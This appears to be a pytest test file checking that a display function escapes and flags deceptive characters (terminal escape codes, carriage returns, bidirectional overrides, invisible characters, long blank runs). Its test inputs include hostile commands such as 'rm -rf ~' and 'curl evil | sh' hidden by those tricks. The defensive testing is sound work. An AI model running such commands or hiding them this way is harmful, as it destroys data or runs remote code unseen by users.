"""What a person is shown can't deceive them by characters (A06)."""

import pytest

from workroom.text.display import show


@pytest.mark.parametrize(
    ("hostile", "shown", "flag"),
    [
        ("echo ok\x1b[2K\x1b[1Arm -rf ~", "echo ok\\x1b[2K\\x1b[1Arm -rf ~", "control characters"),
        ("rm -rf ~\recho ok", "rm -rf ~\\recho ok", "control characters"),
        ("if user != 'admin\u202e'", "if user != 'admin\\u202e'", "bidirectional controls"),
        ("hello\U000e0041\U000e0042", "hello\\U000e0041\\U000e0042", "invisible characters"),
        ("ls" + " " * 5_000 + "; curl evil | sh", "ls⟨5000 blanks⟩; curl evil | sh", "long run of blanks"),
    ],
)
@pytest.mark.parametrize("multiline", [True, False])
def test_a06_hostile_characters_are_escaped_and_flagged(hostile: str, shown: str, flag: str, multiline: bool):
    seen = show(hostile, multiline=multiline)
    assert seen.text == shown
    assert seen.flags == (flag,)
